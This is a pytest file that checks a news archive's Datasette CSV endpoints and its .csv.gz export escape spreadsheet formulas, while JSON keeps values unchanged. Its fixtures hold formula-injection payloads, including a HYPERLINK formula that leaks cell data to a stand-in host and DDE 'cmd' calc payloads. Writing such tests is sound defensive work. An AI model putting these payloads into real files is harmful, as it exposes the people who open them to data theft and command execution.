"""CSV formula injection (issue 15 §10): Datasette's CSV and export's .csv.gz neutralise cells
a spreadsheet would run; numbers and JSON stay as they are."""
from __future__ import annotations

import asyncio
import csv
import gzip
import io
import json
import random
import sys
from datetime import date
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "bench"))

from bench_serve import add_article, build_test_archive  # noqa: E402

from crawler.publish.app import make_datasette  # noqa: E402
from crawler.publish.csv_safe import CsvRewriter, safe_cell  # noqa: E402
from crawler.publish.export import export_archive  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
TITLES = {
    "evil:1": EVIL,
    "evil:2": "+cmd|' /C calc'!A0",
    "evil:3": "-2+3+cmd|' /C calc'!A0",
    "evil:4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "evil:5": "\t=1+1",
    "evil:6": 'Dòng một\n=dòng "hai", có dấu phẩy',
}


def test_safe_cell():
    assert safe_cell(EVIL) == "'" + EVIL
    for v in ("+84 24 3825 1234", "-x", "@tên", "\r=1", "\t1"):
        assert safe_cell(v) == "'" + v
    for v in ("-12,5", "+3.2", "-1e3", "-0.5", "1.402", "Hà Nội = Thủ đô", "", None, -5, 2.5):
        assert safe_cell(v) == v


def test_rewriter_keeps_records_whole_across_any_chunking():
    rows = [["id", "title", "n"], ["a", EVIL, "-3"], ["b", 'nhiều\r\ndòng, "trích" =1', ""],
            ["c", "-tiêu đề\n=2", "7"], ["d", "bình thường", "-1,5"]]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    data = buf.getvalue().encode("utf-8")
    expected = [[safe_cell(v) for v in r] for r in rows]
    rng = random.Random(5)
    for _ in range(200):  # chunks cut anywhere, inside quotes and inside UTF-8 characters
        cuts = sorted(rng.sample(range(1, len(data)), rng.randint(1, 12)))
        parts = [data[i:j] for i, j in zip([0, *cuts], [*cuts, len(data)])]
        rw = CsvRewriter()
        out = b"".join(rw.feed(p, final=(k == len(parts) - 1)) for k, p in enumerate(parts))
        assert list(csv.reader(io.StringIO(out.decode("utf-8")))) == expected


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    path = tmp_path_factory.mktemp("csv") / "archive.db"
    db = build_test_archive(path, filler=5)
    for aid, title in TITLES.items():
        add_article(db, id=aid, title=title, body_text="Nội dung bình thường.")
    db.close()
    return path


def _titles(text: str) -> dict[str, str]:
    return {r["id"]: r["title"] for r in csv.DictReader(io.StringIO(text)) if r["id"] in TITLES}


@pytest.mark.parametrize("url", [
    "/archive/articles.csv?_size=max",
    "/archive/articles.csv?_stream=on&_size=max",
    "/archive/articles.csv?_dl=1&_size=max",
    "/archive/news.csv?_size=max",
])
def test_datasette_csv_neutralises_formulas_and_json_does_not(archive, url):
    ds = make_datasette(archive)
    r = asyncio.run(ds.client.get(url))
    assert r.status_code == 200
    got = _titles(r.text)
    assert got == {aid: safe_cell(t) for aid, t in TITLES.items()}
    j = asyncio.run(ds.client.get("/archive/articles.json?_shape=array&_size=max&_col=title")).json()
    assert {o["id"]: o["title"] for o in j if o["id"] in TITLES} == TITLES


def test_typed_sql_csv_too(archive):
    ds = make_datasette(archive)
    r = asyncio.run(ds.client.get("/archive.csv", params={
        "sql": "select id, title, -4 as n, '-4' as s from articles where id like 'evil:%' order by id"}))
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [x["title"] for x in rows] == [safe_cell(TITLES[x["id"]]) for x in rows]
    assert {x["n"] for x in rows} == {"-4"} and {x["s"] for x in rows} == {"-4"}


def test_export_csv_neutralises_formulas_and_jsonl_does_not(archive, tmp_path):
    out = export_archive(archive, tmp_path, day=date(2026, 12, 6))["directory"]
    with gzip.open(out / "articles.csv.gz", "rt", encoding="utf-8", newline="") as f:
        got = {r["id"]: r["title"] for r in csv.DictReader(f) if r["id"] in TITLES}
    assert got == {aid: safe_cell(t) for aid, t in TITLES.items()}
    with gzip.open(out / "articles.jsonl.gz", "rt", encoding="utf-8") as f:
        objs = {o["id"]: o["title"] for o in map(json.loads, f) if o["id"] in TITLES}
    assert objs == TITLES
    assert "formula" in (out / "DATA_DICTIONARY.md").read_text()
